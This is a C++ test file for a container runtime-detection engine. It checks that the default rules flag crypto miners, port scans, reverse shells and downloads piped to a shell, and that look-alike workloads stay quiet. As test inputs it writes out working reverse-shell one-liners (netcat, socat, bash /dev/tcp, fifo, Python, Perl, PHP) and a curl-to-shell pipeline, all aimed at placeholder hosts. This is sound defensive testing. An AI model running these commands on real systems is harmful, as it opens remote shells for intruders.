// The shipped rules (rules/default.yaml) against hand-built events: every
// rule fires on the behaviour it is about, whatever the program is called,
// and its near misses (ordinary workloads that look alike) stay quiet.
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <sys/stat.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <memory>
#include <string>
#include <vector>

#include "enrich/pipe_join.h"
#include "rules/rule_set.h"
#include "test_context.h"
#include "test_util.h"

using crowsnest::Detection;
using crowsnest::RuleSet;
using crowsnest::ConnectOutcome;
using crowsnest::test::connect_inet_scene;
using crowsnest::test::connect_outcome_scene;
using crowsnest::test::connect_unix_scene;
using crowsnest::test::exec_scene;
using crowsnest::test::kContainerId;
using crowsnest::test::open_scene;
using crowsnest::test::Scene;
using crowsnest::test::socket_scene;
using crowsnest::test::syscall_scene;
using crowsnest::test::TempDir;
using crowsnest::test::write_file;

using Names = std::vector<std::string>;

namespace {

const std::string kDefaultRules = CROWSNEST_SOURCE_DIR "/rules/default.yaml";

// The shipped rules, plus more files; fresh for every call (thresholds keep state).
std::unique_ptr<RuleSet> load_rules(const std::vector<std::string> &more = {}) {
    std::vector<std::string> files{kDefaultRules}, errors, warnings;
    files.insert(files.end(), more.begin(), more.end());
    auto r = RuleSet::load(files, errors, warnings);
    INFO("errors: " << Catch::Detail::stringify(errors));
    REQUIRE(errors.empty());
    REQUIRE(r != nullptr);
    return r;
}

const RuleSet &default_rules() {
    static const std::unique_ptr<RuleSet> rules = load_rules();
    return *rules;
}

std::vector<Detection> detect(const Scene &s, const RuleSet &rules = default_rules()) {
    std::vector<Detection> out;
    const auto ctx = s.ctx();
    rules.match(ctx, out);
    for (auto &d : out) rules.render_output(d);
    return out;
}

// The names of the rules that fire, sorted.
Names fired(const Scene &s, const RuleSet &rules = default_rules()) {
    Names names;
    for (const auto &d : detect(s, rules)) names.push_back(d.rule->name);
    std::sort(names.begin(), names.end());
    return names;
}

bool fires(const Scene &s, const std::string &rule) {
    const Names n = fired(s);
    return std::find(n.begin(), n.end(), rule) != n.end();
}

Scene opened(const std::string &path, uint32_t flags) {
    Scene s = open_scene(path);
    s.event.open_flags = flags;
    return s;
}

Scene host_file(const std::string &path, const std::string &host_path, uint32_t flags = O_RDONLY) {
    Scene s = opened(path, flags);
    s.host_path = host_path;
    return s;
}

}  // namespace

TEST_CASE("default rules: the file loads without warnings, every rule has desc, tags and a category",
          "[default_rules]") {
    std::vector<std::string> errors, warnings;
    auto r = RuleSet::load({kDefaultRules}, errors, warnings);
    REQUIRE(r != nullptr);
    CHECK(errors.empty());
    CHECK(warnings == Names{});
    CHECK(r->rule_count() >= 30);
    const Names categories{"miner", "scanner",           "host_mount",  "escape",          "drift",
                           "recon", "credential_access", "persistence", "defense_evasion", "execution",
                           "impact"};
    for (size_t i = 0; i < r->rule_count(); i++) {
        const auto &info = r->rule_info(i);
        INFO(info.name);
        CHECK(!info.desc.empty());
        CHECK(std::count(categories.begin(), categories.end(), info.category) == 1);
        REQUIRE(!info.tags.empty());
        CHECK(info.tags[0].rfind("T1", 0) == 0);  // MITRE ATT&CK ids
    }
    const auto &paths = r->protected_host_paths();
    CHECK(std::count(paths.begin(), paths.end(), "/etc/shadow") == 1);
    CHECK(std::count(paths.begin(), paths.end(), "/etc/cron.d/") == 1);
    CHECK(std::count(paths.begin(), paths.end(), "/home/*/.ssh/") == 1);  // watched at every refresh
    CHECK(std::is_sorted(paths.begin(), paths.end()));
}

// ---- miners -----------------------------------------------------------------

TEST_CASE("default rules: a known miner binary fires, by file name or argv[0]", "[default_rules][miner]") {
    CHECK(fires(exec_scene("/opt/.x/xmrig", {"xmrig", "-c", "config.json"}), "crypto_miner_binary"));
    CHECK(fires(exec_scene("/tmp/.x/xmrig", {"xmrig"}).on_host(), "crypto_miner_binary"));
    // from /tmp in a container: a miner, and drift
    CHECK(fired(exec_scene("/tmp/.x/xmrig", {"xmrig"})) == Names{"crypto_miner_binary", "drift_exec_from_writable_dir"});
    CHECK(fires(exec_scene("/opt/XMRig", {"XMRig"}), "crypto_miner_binary"));
    CHECK(fires(exec_scene("/usr/bin/env", {"minerd", "--url", "x"}), "crypto_miner_binary"));

    const auto ds = detect(exec_scene("/opt/.x/xmrig", {"xmrig", "-c", "config.json"}));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "crypto_miner_binary");
    CHECK(ds[0].rule->category == "miner");
    CHECK(ds[0].rule->severity == "critical");
    CHECK(ds[0].rule->tags == Names{"T1496"});
    CHECK(ds[0].output == "Crypto miner started: /opt/.x/xmrig (xmrig -c config.json) in container " + kContainerId);
}

TEST_CASE("default rules: a renamed miner is caught by its arguments", "[default_rules][miner]") {
    CHECK(fired(exec_scene("/usr/local/bin/kworkerd", {"kworkerd", "-o", "stratum+tcp://pool:3333", "-u", "w"})) ==
          Names{"crypto_miner_stratum_args"});
    CHECK(fires(exec_scene("/bin/k", {"k", "--url=STRATUM+SSL://pool.example:443"}), "crypto_miner_stratum_args"));
    CHECK(fired(exec_scene("/bin/k", {"k", "-o", "gulf.moneroocean.stream:10128"})) ==
          Names{"crypto_miner_pool_domain_args"});
    CHECK(fired(exec_scene("/bin/app", {"app", "--donate-level=1"})) == Names{"crypto_miner_flags"});
    CHECK(fired(exec_scene("/bin/app", {"app", "--donate-level", "1"})) == Names{"crypto_miner_flags"});
    CHECK(fires(exec_scene("/bin/app", {"app", "--coin=monero"}), "crypto_miner_flags"));
    CHECK(fired(exec_scene("/bin/app", {"app", "-a", "rx/0"})) == Names{"crypto_miner_algorithm"});
    CHECK(fired(exec_scene("/bin/app", {"app", "--algo=cryptonight"})) == Names{"crypto_miner_algorithm"});
    CHECK(fired(exec_scene("/bin/app", {"app", "--algorithm", "KawPow"})) == Names{"crypto_miner_algorithm"});
    CHECK(fired(exec_scene("/bin/app", {"app", "-arx/0"})) == Names{"crypto_miner_algorithm"});  // getopt's -aVALUE
    // one verdict per category: the first matching rule in file order
    CHECK(fired(exec_scene("/opt/xmrig", {"xmrig", "-o", "stratum+tcp://p:3333", "--donate-level=1"})) ==
          Names{"crypto_miner_binary"});
}

TEST_CASE("default rules: miner near misses do not fire", "[default_rules][miner][near_miss]") {
    for (const Scene &s : {
             exec_scene("/usr/bin/xmrig-proxy-docs", {"xmrig-proxy-docs"}),  // not the name
             exec_scene("/usr/bin/minerd2", {"minerd2"}),
             exec_scene("/bin/app", {"app", "--url", "https://stratum.example.com"}),  // no stratum scheme
             exec_scene("/bin/app", {"stratum+tcp://pool:3333"}),                    // argv[0] is not an argument
             exec_scene("/bin/app", {"app", "--donate-levels=1"}),                   // another flag
             exec_scene("/bin/app", {"app", "--coinbase"}),
             exec_scene("/bin/app", {"app", "x--donate-level"}),
             exec_scene("/bin/ls", {"ls", "-a", "/tmp"}),         // -a without an algorithm
             exec_scene("/bin/echo", {"echo", "rx/0"}),           // an algorithm without -a
             exec_scene("/bin/app", {"app", "--algo", "sha256"}),  // not a mining algorithm
             exec_scene("/usr/bin/git", {"git", "commit", "-a", "-m", "randomx fix"}),
             exec_scene("/usr/bin/git", {"git", "commit", "-am", "randomx fix"}),
             exec_scene("/bin/app", {"app", "--algo", "sha256", "--note", "rx/0"}),
             exec_scene("/bin/app", {"app", "--algorithms=kawpow"}),  // another flag
             exec_scene("/bin/app", {"app", "rx/0", "-a"}),           // -a with nothing after it
             exec_scene("/usr/bin/curl", {"curl", "https://example.com/nanopool-review"}),  // not the pool's domain
         }) {
        CAPTURE(s.event.argv);
        CHECK(fired(s).empty());
    }
}

TEST_CASE("default rules: a failed exec fires nothing", "[default_rules]") {
    CHECK(fired(exec_scene("/tmp/xmrig", {"xmrig", "-o", "stratum+tcp://p:3333", "--donate-level=1"}, -2)).empty());
    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "10.0.0.0/24"}, -13)).empty());
    CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}, -2)).empty());
}

TEST_CASE("default rules: a miner configured by file still touches MSRs and huge pages", "[default_rules][miner]") {
    Scene msr = opened("/dev/cpu/3/msr", O_WRONLY);
    msr.by("/tmp/systemd-journald", {"./systemd-journald"});
    CHECK(fired(msr) == Names{"crypto_miner_msr_write"});
    CHECK(fired(msr.on_host()) == Names{"crypto_miner_msr_write"});
    Scene failed = opened("/dev/cpu/0/msr", O_WRONLY);
    failed.event.ret = -2;  // ENOENT: no msr driver
    CHECK(fired(failed) == Names{"crypto_miner_msr_write_attempt"});
    CHECK(fired(open_scene("/dev/cpu/3/msr")).empty());  // turbostat reads them
    CHECK(fired(opened("/dev/cpu/3/cpuid", O_WRONLY)).empty());

    Scene huge = opened("/proc/sys/vm/nr_hugepages", O_WRONLY | O_TRUNC);
    CHECK(fired(huge) == Names{"hugepages_write_from_container"});
    CHECK(fired(huge.on_host()).empty());
    CHECK(fired(open_scene("/proc/sys/vm/nr_hugepages")).empty());  // reading is harmless
}

TEST_CASE("default rules: mining-pool ports from a container, pool networks when listed", "[default_rules][miner]") {
    CHECK(fired(connect_inet_scene("198.51.100.7", 3333, -115)) == Names{"mining_pool_port_connect"});
    CHECK(fired(connect_inet_scene("2001:db8::7", 14444)) == Names{"mining_pool_port_connect"});
    CHECK(fired(connect_inet_scene("198.51.100.7", 3333).on_host()).empty());
    CHECK(fired(connect_inet_scene("198.51.100.7", 443)).empty());
    // busy, harmless services on ports some pools also use (Selenium Grid, Celery Flower)
    CHECK(fired(connect_inet_scene("10.0.0.5", 4444)).empty());
    CHECK(fired(connect_inet_scene("10.0.0.6", 5555)).empty());
    Scene unresolved = connect_inet_scene("198.51.100.7", 3333);
    unresolved.has_cgroup = false;  // an unresolved cgroup is no container
    CHECK(fired(unresolved).empty());

    const auto ds = detect(connect_inet_scene("198.51.100.7", 3333, -111));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].output == "Connection to a mining-pool port: curl (/usr/bin/curl) to 198.51.100.7:3333 "
                          "(ECONNREFUSED) in container " + kContainerId);

    // the pool network list is empty until a user file appends to it
    CHECK(fired(connect_inet_scene("203.0.113.9", 443).on_host()).empty());
    TempDir dir;
    write_file(dir / "feed.yaml", "- list: miner_pool_networks\n  items: [203.0.113.0/24, 2001:db8:99::/48]\n  append: true\n");
    auto r = load_rules({dir / "feed.yaml"});
    CHECK(fired(connect_inet_scene("203.0.113.9", 443).on_host(), *r) == Names{"mining_pool_address_connect"});
    CHECK(fired(connect_inet_scene("2001:db8:99::1", 443).on_host(), *r) == Names{"mining_pool_address_connect"});
    CHECK(fired(connect_inet_scene("203.0.114.9", 443).on_host(), *r).empty());
}

// ---- scanners and reverse shells --------------------------------------------

TEST_CASE("default rules: a port scan by any program, and busy clients that are none", "[default_rules][scanner]") {
    auto rules = load_rules();
    int scans = 0;
    for (uint16_t port = 1; port <= 80; port++) {
        Scene s = connect_inet_scene("10.0.0.9", port, -111);
        s.by("/tmp/.x/kworker", {"kworker"});
        s.event.boot_ns = 1000000000ULL + port * 1000000ULL;
        for (const auto &d : detect(s, *rules)) {
            if (d.rule->name != "port_scan") continue;
            scans++;
            CHECK(d.rule->category == "scanner");
            CHECK(port == 50);
            CHECK(d.output == "Port scan: kworker (/tmp/.x/kworker) tried 50 distinct ports of 10.0.0.9 within 10 s, "
                              "from container " + kContainerId);
        }
    }
    CHECK(scans == 1);
    // a non-blocking scanner sees EINPROGRESS, then its attempts are refused
    // or given up: the outcomes count, the calls do not
    for (uint16_t port = 1; port <= 50; port++) {
        Scene s = connect_inet_scene("10.0.0.10", port, -115);
        s.event.boot_ns = 2000000000ULL + port;
        CHECK(fired(s, *rules).empty());
        Scene o = port % 2 ? connect_outcome_scene("10.0.0.10", port, ConnectOutcome::Failed, -111)
                           : connect_outcome_scene("10.0.0.10", port, ConnectOutcome::Abandoned, -103);
        o.event.boot_ns = 2000000000ULL + port * 1000ULL;
        const Names got = fired(o, *rules);
        scans += got == Names{"port_scan"};
        if (port < 50) CHECK(got.empty());
    }
    CHECK(scans == 2);
    // a blocking refused connect also ends in an outcome: the port counts once
    for (uint16_t port = 1; port <= 49; port++) {
        Scene s = connect_inet_scene("10.0.0.11", port, -111);
        s.event.boot_ns = 3000000000ULL + port * 1000ULL;
        CHECK(fired(s, *rules).empty());
        Scene o = connect_outcome_scene("10.0.0.11", port, ConnectOutcome::Failed, -111);
        o.event.boot_ns = s.event.boot_ns + 1;
        CHECK(fired(o, *rules).empty());
    }

    // near misses: a scraper reaching 200 hosts on one port, a client retrying
    // one port, a test suite connecting to 100 ports that all answer
    for (int h = 1; h <= 200; h++) {
        Scene s = connect_inet_scene("10.1.0." + std::to_string(h % 250), 9100);
        s.event.boot_ns = 5000000000ULL + uint64_t(h);
        CHECK(fired(s, *rules).empty());
    }
    for (int i = 0; i < 200; i++) CHECK(fired(connect_inet_scene("10.2.0.1", 5432, -111), *rules).empty());
    for (uint16_t port = 30000; port < 30100; port++) {
        Scene s = connect_inet_scene("127.0.0.1", port);
        s.event.boot_ns = 6000000000ULL + port;
        CHECK(fired(s, *rules).empty());
    }
    // ... and the same with non-blocking sockets: 100 EINPROGRESS, all established
    for (uint16_t port = 31000; port < 31100; port++) {
        Scene s = connect_inet_scene("127.0.0.1", port, -115);
        s.event.boot_ns = 7000000000ULL + port;
        CHECK(fired(s, *rules).empty());
        Scene o = connect_outcome_scene("127.0.0.1", port, ConnectOutcome::Established);
        o.event.boot_ns = s.event.boot_ns + 1;
        CHECK(fired(o, *rules).empty());
    }
}

TEST_CASE("default rules: a sweep of one port across a network", "[default_rules][scanner]") {
    auto rules = load_rules();
    int sweeps = 0;
    for (int h = 1; h <= 40; h++) {
        Scene s = connect_inet_scene("10.3.0." + std::to_string(h), 22, h % 2 ? -111 : -113);
        s.event.boot_ns = 1000000000ULL + uint64_t(h) * 1000000ULL;
        sweeps += fired(s, *rules) == Names{"network_sweep"};
    }
    CHECK(sweeps == 1);
    // a service whose non-blocking connects to 200 pods are in progress, then
    // established, is no sweep
    for (int h = 1; h <= 200; h++) {
        Scene s = connect_inet_scene("10.4.0." + std::to_string(h), 8080, -115);
        s.event.boot_ns = 2000000000ULL + uint64_t(h);
        CHECK(fired(s, *rules).empty());
        Scene o = connect_outcome_scene("10.4.0." + std::to_string(h), 8080, ConnectOutcome::Established);
        o.event.boot_ns = s.event.boot_ns + 1;
        CHECK(fired(o, *rules).empty());
    }
    // a non-blocking sweep: 40 addresses that never answer, each given up
    // after the scanner's own timeout (abandoned), or unreachable
    for (int h = 1; h <= 40; h++) {
        Scene o = h % 4 ? connect_outcome_scene("10.5.0." + std::to_string(h), 445, ConnectOutcome::Abandoned, -103)
                        : connect_outcome_scene("10.5.0." + std::to_string(h), 445, ConnectOutcome::Failed, -113);
        o.by("/tmp/masscan-lite", {"svc"});
        o.event.boot_ns = 3000000000ULL + uint64_t(h) * 1000000ULL;
        const Names got = fired(o, *rules);
        sweeps += got == Names{"network_sweep"};
        CHECK((h == 32 ? got == Names{"network_sweep"} : got.empty()));
    }
    CHECK(sweeps == 2);
    // a client whose first of two addresses (happy eyeballs) is given up each
    // time, against 20 servers: below the threshold
    for (int h = 1; h <= 20; h++) {
        Scene o = connect_outcome_scene("10.6.0." + std::to_string(h), 443, ConnectOutcome::Abandoned, -103);
        o.event.boot_ns = 4000000000ULL + uint64_t(h);
        CHECK(fired(o, *rules).empty());
    }
}

TEST_CASE("default rules: scanners and network tools in containers", "[default_rules][scanner]") {
    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"})) == Names{"network_scanner_in_container"});
    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}).on_host()).empty());
    const auto ds = detect(exec_scene("/usr/bin/nc", {"nc", "-z", "db", "5432"}));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "network_tool_in_container");
    CHECK(ds[0].rule->severity == "low");
    CHECK(fired(exec_scene("/usr/bin/nc", {"nc", "-z", "db", "5432"}).on_host()).empty());
}

TEST_CASE("default rules: reverse shells", "[default_rules][scanner]") {
    CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"})) == Names{"reverse_shell_netcat"});
    CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}).on_host()) ==
          Names{"reverse_shell_netcat"});
    CHECK(fires(exec_scene("/bin/nc", {"nc", "-e/bin/sh", "1.2.3.4", "4444"}), "reverse_shell_netcat"));
    CHECK(fires(exec_scene("/usr/bin/ncat", {"ncat", "--sh-exec=/bin/bash", "1.2.3.4", "80"}), "reverse_shell_netcat"));
    CHECK(fires(exec_scene("/usr/bin/ncat", {"ncat", "-c", "bash -i", "1.2.3.4", "80"}), "reverse_shell_netcat"));
    CHECK(fires(exec_scene("/usr/bin/socat", {"socat", "TCP:1.2.3.4:4444", "EXEC:/bin/bash"}), "reverse_shell_socat"));
    CHECK(fires(exec_scene("/usr/bin/socat", {"socat", "tcp:1.2.3.4:4444", "system:sh"}).on_host(), "reverse_shell_socat"));
    CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"})) ==
          Names{"reverse_shell_dev_tcp"});
    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5"})) ==
          Names{"reverse_shell_dev_tcp"});
    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "0<&196;exec 196<>/dev/tcp/10.0.0.1/80; sh <&196 >&196 2>&196"})) ==
          Names{"reverse_shell_dev_tcp"});
    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"})) ==
          Names{"reverse_shell_fifo"});
    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "-c",
                                                 "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
                                                 "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"})) ==
          Names{"reverse_shell_interpreter"});
    CHECK(fired(exec_scene("/usr/bin/perl", {"perl", "-e",
                                              "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                                              "connect(S,sockaddr_in(4242,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");"
                                              "exec(\"/bin/sh -i\");"})) == Names{"reverse_shell_interpreter"});
    CHECK(fired(exec_scene("/usr/bin/php", {"php", "-r", "$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");"})) ==
          Names{"reverse_shell_interpreter"});
    // a shell started by netcat, however the option was spelled
    Scene shell = exec_scene("/bin/sh", {"sh"});
    shell.parent = {4300, 1, "nc", "/usr/bin/nc", {"nc", "1.2.3.4", "4444", "-e/bin/sh"}};
    const auto ds = detect(shell);
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "shell_spawned_by_network_tool");
    CHECK(ds[0].output == "Shell sh started by nc (nc 1.2.3.4 4444 -e/bin/sh) in container " + kContainerId);
}

TEST_CASE("default rules: reverse-shell near misses", "[default_rules][scanner][near_miss]") {
    CHECK_FALSE(fires(exec_scene("/bin/nc", {"nc", "my-elastic", "9200"}), "reverse_shell_netcat"));
    CHECK_FALSE(fires(exec_scene("/bin/nc", {"nc", "-v", "-w", "2", "exec.example.com", "80"}), "reverse_shell_netcat"));
    CHECK(fired(exec_scene("/bin/nc", {"nc", "-lp", "8080"}).on_host()).empty());
    CHECK(fired(exec_scene("/bin/grep", {"grep", "-e", "pattern", "file"})).empty());  // -e of another program
    CHECK_FALSE(fires(exec_scene("/usr/bin/socat", {"socat", "TCP-LISTEN:8080", "TCP:backend:80"}), "reverse_shell_socat"));
    // a readiness probe that only opens /dev/tcp
    CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "</dev/tcp/localhost/5432"})).empty());
    CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "echo > /dev/tcp/db/5432 && echo up"})).empty());
    CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/6379 && echo PING >&3 && "
                                                       "head -1 <&3 | grep PONG"})).empty());
    // pipes and sockets in ordinary work
    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "mkfifo /tmp/progress && tar czf - /data > /tmp/progress"})).empty());
    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "-c", "import socket; print(socket.gethostname())"})).empty());
    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "-m", "http.server", "8000"})).empty());
    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "/app/manage.py", "runserver"})).empty());
    // a shell whose parent is an ordinary shell, and a shell under a service
    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "date"})).empty());
    Scene under_ssh = exec_scene("/bin/bash", {"bash"});
    under_ssh.parent = {4300, 1, "sshd", "/usr/sbin/sshd", {"sshd: root@pts/0"}};
    CHECK(fired(under_ssh).empty());
}

// ---- reverse shells by their stdio ------------------------------------------

namespace {

using crowsnest::StdioFd;
using crowsnest::StdioKind;

StdioFd inet_socket(uint16_t family, uint16_t protocol, uint64_t ino) {
    StdioFd fd;
    fd.kind = StdioKind::Socket;
    fd.family = family;
    fd.protocol = protocol;
    fd.ino = ino;
    fd.local_port = 40000;
    fd.remote_port = 4444;
    fd.local_addr = {10, 0, 0, 2};
    fd.remote_addr = {203, 0, 113, 9};
    return fd;
}

StdioFd kind(StdioKind k, uint64_t ino = 9, uint16_t family = 0) {
    StdioFd fd;
    fd.kind = k;
    fd.ino = ino;
    fd.family = family;
    return fd;
}

// An exec whose fds 0, 1, 2 are these.
Scene with_stdio(Scene s, const StdioFd &in, const StdioFd &out, const StdioFd &err) {
    s.event.has_stdio = true;
    s.event.stdio = {in, out, err};
    return s;
}

}  // namespace

TEST_CASE("default rules: a shell or interpreter on a network socket, whatever started it",
          "[default_rules][scanner][stdio]") {
    const StdioFd tcp = inet_socket(AF_INET, IPPROTO_TCP, 5001), tty = kind(StdioKind::CharDevice);
    // nc -e, socat exec:, bash's /dev/tcp: stdin and stdout the socket
    CHECK(fired(with_stdio(exec_scene("/bin/sh", {"sh"}), tcp, tcp, tcp)) == Names{"reverse_shell_stdio_socket"});
    CHECK(fired(with_stdio(exec_scene("/bin/bash", {"bash", "-i"}), tcp, tcp, tty)) ==
          Names{"reverse_shell_stdio_socket"});
    // only one of them, over UDP or IPv6; an interpreter; a busybox applet
    const StdioFd udp6 = inet_socket(AF_INET6, IPPROTO_UDP, 5002);
    CHECK(fires(with_stdio(exec_scene("/bin/dash", {"dash"}), kind(StdioKind::Pipe), udp6, udp6),
                "reverse_shell_stdio_socket"));
    CHECK(fires(with_stdio(exec_scene("/usr/bin/python3", {"python3"}), tcp, kind(StdioKind::Pipe), tty),
                "reverse_shell_stdio_socket"));
    CHECK(fires(with_stdio(exec_scene("/bin/busybox", {"ash"}), tcp, tcp, tcp), "reverse_shell_stdio_socket"));
    // on the host too, and whoever the parent is: the shell comes before shell_spawned_by_network_tool
    CHECK(fires(with_stdio(exec_scene("/bin/sh", {"sh"}), tcp, tcp, tcp).on_host(), "reverse_shell_stdio_socket"));
    Scene from_nc = with_stdio(exec_scene("/bin/sh", {"sh"}), tcp, tcp, tcp);
    from_nc.parent = {4300, 1, "nc", "/usr/bin/nc", {"nc", "1.2.3.4", "4444", "-e/bin/sh"}};
    CHECK(fired(from_nc) == Names{"reverse_shell_stdio_socket"});
    const auto ds = detect(with_stdio(exec_scene("/bin/sh", {"sh", "-i"}), tcp, tcp, tcp));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].output == "Shell with its input or output on a network socket: /bin/sh (sh -i), stdin ipv4 "
                          "203.0.113.9:4444, stdout ipv4 203.0.113.9:4444, started by sh in container " +
                              kContainerId);
}

TEST_CASE("default rules: a program of any name driven through one network socket",
          "[default_rules][scanner][stdio]") {
    const StdioFd tcp = inet_socket(AF_INET, IPPROTO_TCP, 5001);
    // a copy of busybox called kworker, started as a shell by a relay
    CHECK(fired(with_stdio(exec_scene("/tmp/kworker", {"kworker", "sh"}), tcp, tcp, tcp)) ==
          Names{"drift_exec_from_writable_dir", "program_stdio_on_socket"});
    CHECK(fired(with_stdio(exec_scene("/usr/local/bin/agent", {"agent"}), tcp, tcp, tcp)) ==
          Names{"program_stdio_on_socket"});
    // two different sockets, or one on the host: not this rule
    CHECK(fired(with_stdio(exec_scene("/usr/local/bin/agent", {"agent"}), tcp, inet_socket(AF_INET, IPPROTO_TCP, 5009),
                           tcp))
              .empty());
    CHECK(fired(with_stdio(exec_scene("/usr/sbin/sshd", {"sshd", "-i"}), tcp, tcp, tcp).on_host()).empty());
}

TEST_CASE("default rules: shells on unix sockets, pipes, terminals and files, and inetd's children, are no "
          "reverse shells",
          "[default_rules][scanner][stdio][near_miss]") {
    const StdioFd unix_sock = kind(StdioKind::Socket, 7, AF_UNIX), pipe = kind(StdioKind::Pipe, 8),
                  tty = kind(StdioKind::CharDevice, 3), file = kind(StdioKind::File, 4);
    // docker exec and containerd shims hand a shell pipes or a terminal; systemd socket activation a unix socket
    for (const auto &fd : {unix_sock, pipe, tty, file}) {
        CHECK(fired(with_stdio(exec_scene("/bin/sh", {"sh", "-c", "date"}), fd, fd, fd)).empty());
        CHECK(fired(with_stdio(exec_scene("/usr/local/bin/agent", {"agent"}), fd, fd, fd)).empty());
    }
    // a raw socket is no stream of commands
    const StdioFd raw = inet_socket(AF_INET, IPPROTO_RAW, 6);
    CHECK(fired(with_stdio(exec_scene("/bin/sh", {"sh"}), raw, raw, raw)).empty());
    // a service script run per connection by an inetd-style server
    const StdioFd tcp = inet_socket(AF_INET, IPPROTO_TCP, 5001);
    for (const char *server : {"inetd", "tcpsvd"}) {
        Scene service = with_stdio(exec_scene("/bin/sh", {"sh", "/srv/motd.sh"}), tcp, tcp, tcp);
        service.parent = {4300, 1, server, std::string("/usr/sbin/") + server, {server}};
        CHECK(fired(service).empty());
    }
    // a failed exec has no stdio
    CHECK(fired(exec_scene("/bin/sh", {"sh"}, -2)).empty());
}

// ---- download piped to a shell -----------------------------------------------

namespace {

using crowsnest::EventContext;
using crowsnest::PipeJoin;

// The processes of one pipeline (`writer | reader`), each event fed through
// one pipe join as the engine feeds it, then matched by the shipped rules.
struct Pipeline {
    PipeJoin join;
    const StdioFd pipe = kind(StdioKind::Pipe, 77), tty = kind(StdioKind::CharDevice, 3);
    bool on_host = false;
    std::vector<std::string> outputs;  // of the last step's verdicts

    Names step(Scene s, uint32_t pid) {
        s.event.pid = s.event.tid = s.process.pid = pid;
        if (on_host) s.on_host();
        EventContext ctx = s.ctx();
        join.join(ctx);
        std::vector<Detection> ds;
        default_rules().match(ctx, ds);
        Names names;
        outputs.clear();
        for (auto &d : ds) {
            default_rules().render_output(d);
            names.push_back(d.rule->name);
            outputs.push_back(d.output);
        }
        std::sort(names.begin(), names.end());
        return names;
    }
    Names writer(uint32_t pid, const std::string &exe, std::vector<std::string> argv) {
        return step(with_stdio(exec_scene(exe, std::move(argv)), tty, pipe, tty), pid);
    }
    Names reader(uint32_t pid, const std::string &exe, std::vector<std::string> argv) {
        return step(with_stdio(exec_scene(exe, std::move(argv)), pipe, tty, tty), pid);
    }
    // the writer's connect (as its process table entry knows it), refused or not
    Names connect(uint32_t pid, const std::string &exe, std::vector<std::string> argv, int64_t ret = 0) {
        Scene s = connect_inet_scene("127.0.0.1", 8080, ret);
        s.by(exe, std::move(argv));
        return step(s, pid);
    }
    // the writer's accept of an inbound connection from 10.0.0.9 on port 4444
    Names accept(uint32_t pid, const std::string &exe, std::vector<std::string> argv) {
        Scene s = socket_scene(crowsnest::Syscall::Accept, {3}, 4, "10.0.0.5", 4444, "10.0.0.9", 40000, IPPROTO_TCP);
        s.by(exe, std::move(argv));
        return step(s, pid);
    }
};

const Names kShellLast{"download_piped_to_shell"}, kWriterLast{"download_piped_to_running_shell"};

}  // namespace

TEST_CASE("default rules: a download piped to a shell, once, whichever side execs or connects last",
          "[default_rules][drift][pipe]") {
    const std::vector<std::string> curl{"curl", "-fsSL", "http://203.0.113.9/x.sh"};
    {   // curl first: the shell's exec fires, on curl's name alone
        Pipeline p;
        CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
        CHECK(p.reader(11, "/bin/sh", {"sh"}) == kShellLast);
        REQUIRE(p.outputs.size() == 1);
        CHECK(p.outputs[0].find("/bin/sh (sh) reads its program from /usr/bin/curl (-fsSL http://203.0.113.9/x.sh)") !=
              std::string::npos);
        CHECK(p.connect(10, "/usr/bin/curl", curl).empty());
    }
    {   // the shell first: curl's exec fires, its connect does not again
        Pipeline p;
        CHECK(p.reader(11, "/bin/bash", {"bash", "-s", "--", "--prefix=/opt"}).empty());
        CHECK(p.writer(10, "/usr/bin/curl", curl) == kWriterLast);
        REQUIRE(p.outputs.size() == 1);
        CHECK(p.outputs[0].find("writes to /bin/bash (-s -- --prefix=/opt)") != std::string::npos);
        CHECK(p.connect(10, "/usr/bin/curl", curl).empty());
    }
    const std::vector<std::string> py{"python3", "-c", "import urllib.request as u;print(u.urlopen('http://x').read())"};
    {   // a python one-liner after the shell: its first connect fires, later ones do not
        Pipeline p;
        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
        CHECK(p.writer(10, "/usr/bin/python3", py).empty());
        CHECK(p.connect(10, "/usr/bin/python3", py) == kWriterLast);
        CHECK(p.connect(10, "/usr/bin/python3", py).empty());
    }
